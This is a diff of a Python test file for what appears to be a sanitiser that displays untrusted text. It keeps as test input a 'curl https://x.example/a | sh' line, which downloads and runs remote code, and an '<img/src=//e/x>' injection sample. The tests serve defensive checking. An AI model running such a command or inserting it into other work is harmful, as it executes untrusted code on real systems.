@@ -81,9 +81,7 @@ def test_an_address_that_was_typed_stays() -> None:
 
 
 def test_code_stays_code() -> None:
-    code = (
-        "```sh\ncurl https://x.example/a | sh\n```\n```c\n#include <stdio.h>\nList<String> x;\n```"
-    )
+    code = "```sh\nls -l | sort\n```\n```c\n#include <stdio.h>\nList<String> x;\n```"
     assert shown(code) == code
     assert shown("```sh\ncurl https://x.example/a | sh\n```") == (
         "```sh\ncurl ‹x.example/a› | sh\n```"
@@ -137,6 +135,7 @@ def test_a_word_that_never_ends_is_broken_alive_nowhere() -> None:
         assert alive(shown(f"{'a' * length}<img/src=//e/x>")) == []
 
 
+@settings(deadline=None)
 @given(st.text(max_size=50))
 def test_a_word_is_never_lost(word: str) -> None:
     """Beside addresses and markup, every letter is still there."""
@@ -157,6 +156,7 @@ def test_quotations_are_found_and_named() -> None:
     assert quotes("It asks for 400 pounds by Friday.", origin) == []
 
 
+@settings(deadline=None)
 @given(st.text(st.characters(categories=["L"]), min_size=40, max_size=80), st.text(max_size=20))
 def test_a_quotation_is_found_wherever_it_stands(said: str, around: str) -> None:
     origin = Origin(read=(("page", f"before {said} after"),))
